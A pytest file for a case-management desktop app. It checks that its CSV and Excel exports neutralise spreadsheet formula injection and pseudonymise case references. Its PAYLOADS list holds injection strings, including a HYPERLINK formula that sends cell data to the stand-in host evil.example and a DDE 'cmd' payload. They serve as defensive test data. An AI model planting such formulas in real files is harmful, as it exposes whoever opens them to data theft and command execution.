"""Every file the program writes keeps user text inert (no formula injection); pseudonymised refs."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pytest
from conftest import AS_OF, write_tracker
from openpyxl import load_workbook

from send_desktop.cli import main
from send_desktop.store import Database
from send_desktop.store.cases import ChronologyEntry, chronology
from send_desktop.store.models import Case
from send_desktop.workbooks.chronology import csv_safe, write_chronology
from send_desktop.workbooks.export import export_caseload
from send_desktop.workbooks.importer import (
    ImportRefused,
    apply_import,
    read_tracker,
    write_import_report,
)

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


def _no_formulas(path: Path) -> list[str]:
    """Every cell of every sheet that a spreadsheet would run as a formula."""
    found = []
    book = load_workbook(path)  # not data_only: formulas are visible as data_type "f"
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return found


def _entries() -> list[ChronologyEntry]:
    return [
        ChronologyEntry(
            dt.date(2025, 1, 6) + dt.timedelta(days=n),
            dt.datetime(2025, 1, 6, 9, 30),
            "change",
            payload,
            f"detail {payload}" if n % 2 else payload,
            payload,
        )
        for n, payload in enumerate(PAYLOADS)
    ]


def test_csv_safe_prefixes_every_trigger() -> None:
    for payload in PAYLOADS:
        assert csv_safe(payload) == "'" + payload
    assert csv_safe("Jane Smith") == "Jane Smith"
    assert csv_safe(None) == ""


def test_chronology_csv_is_inert(tmp_path: Path) -> None:
    path = tmp_path / "chronology.csv"
    assert write_chronology(path, _entries()) == len(PAYLOADS)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["Date", "Recorded at", "Kind", "What", "Detail", "By"]
    for row in rows[1:]:
        for field in row:
            assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert rows[1][3] == "'" + PAYLOADS[0] and rows[1][0] == "2025-01-06"
    assert rows[1][1] == "2025-01-06 09:30:00"
    assert path.stat().st_mode & 0o077 == 0


def test_chronology_xlsx_is_inert_and_keeps_the_text(tmp_path: Path) -> None:
    path = tmp_path / "chronology.xlsx"
    write_chronology(path, _entries())
    assert _no_formulas(path) == []
    sheet = load_workbook(path)["Chronology"]
    assert [sheet.cell(r, 4).value for r in range(2, 2 + len(PAYLOADS))] == list(PAYLOADS)


@pytest.fixture
def hostile(sqlite_db: Database, tmp_path: Path) -> Database:
    """A database whose names, caseworkers and notes all begin like formulas."""
    headers = ["Case ref", "Forename", "Surname", "Request received", "Caseworker", "Notes"]
    rows: list[list[object]] = [
        [
            f"EHC-SMITH-JANE-{n}",
            "=Jane",
            "@Smith",
            "06/01/2025",
            f"+Worker {n}",
            payload,
        ]
        for n, payload in enumerate(PAYLOADS)
    ]
    path = write_tracker(tmp_path / "hostile.xlsx", rows, headers)
    apply_import(sqlite_db, read_tracker(path), "=Importer", as_of=AS_OF)
    return sqlite_db


def test_supervision_workbook_and_data_sheets_are_inert(hostile: Database, tmp_path: Path) -> None:
    out = tmp_path / "supervision.xlsx"
    export_caseload(hostile, out, as_of=AS_OF, user="@leader", per_caseworker=True)
    assert _no_formulas(out) == []
    # The text survives the round trip exactly, notes included.
    fresh = Database.open(str(tmp_path / "fresh.sqlite3"), "Fresh")
    try:
        apply_import(fresh, read_tracker(out), "Fresh", as_of=AS_OF)
        with fresh.session() as session:
            case_id = session.query(Case.id).filter(Case.ref == "EHC-SMITH-JANE-0").scalar()
            texts = [e.title + " " + e.detail for e in chronology(session, case_id)]
        assert any(PAYLOADS[0] in t for t in texts)
    finally:
        fresh.close()


def test_problem_report_is_inert(sqlite_db: Database, tmp_path: Path) -> None:
    headers = ["Case ref", "Child", "Request received", "=cmd()"]
    rows: list[list[object]] = [["=EHC-1", "Jane Smith", "@soon", "+x"]]
    path = write_tracker(tmp_path / "bad.xlsx", rows, headers)
    plan = read_tracker(path)
    with pytest.raises(ImportRefused) as caught:
        apply_import(sqlite_db, plan, "Importer", as_of=AS_OF)
    report = write_import_report(
        tmp_path / "report.xlsx", plan, caught.value.problems, caught.value.result
    )
    assert _no_formulas(report) == []
    values = [c.value for row in load_workbook(report)["Problems"].iter_rows() for c in row]
    assert "@soon" in values
    summary = [c.value for row in load_workbook(report).worksheets[1].iter_rows() for c in row]
    assert any(isinstance(v, str) and "=cmd()" in v for v in summary)


def test_pseudonymised_refs_are_stable_codes_not_the_ref(hostile: Database, tmp_path: Path) -> None:
    first, second = tmp_path / "p1.xlsx", tmp_path / "p2.xlsx"
    export_caseload(hostile, first, as_of=AS_OF, user="Lead", pseudonymise=True)
    export_caseload(hostile, second, as_of=AS_OF, user="Lead", pseudonymise=True)

    def refs(path: Path) -> list[str]:
        book = load_workbook(path, read_only=True)
        try:
            every = [v for s in book.worksheets for r in s.iter_rows(values_only=True) for v in r]
            assert not any(isinstance(v, str) and "SMITH" in v for v in every)
            sheet = book["Caseload"]
            return [r[0] for r in sheet.iter_rows(min_row=2, values_only=True)]
        finally:
            book.close()

    codes = refs(first)
    assert len(codes) == len(PAYLOADS) == len(set(codes))
    assert all(c.startswith("P-") and len(c) == 12 for c in codes)
    assert refs(second) == codes  # the same code for the same case, export after export
    # Another database has its own secret, so the codes differ there.
    other = Database.open(str(tmp_path / "other.sqlite3"), "Other")
    try:
        assert (
            main(["--database", str(other.url.database), "import", str(tmp_path / "hostile.xlsx")])
            == 0
        )
        third = tmp_path / "p3.xlsx"
        export_caseload(other, third, as_of=AS_OF, user="Lead", pseudonymise=True)
        assert set(refs(third)).isdisjoint(codes)
    finally:
        other.close()
    assert "SMITH" not in "".join(codes)
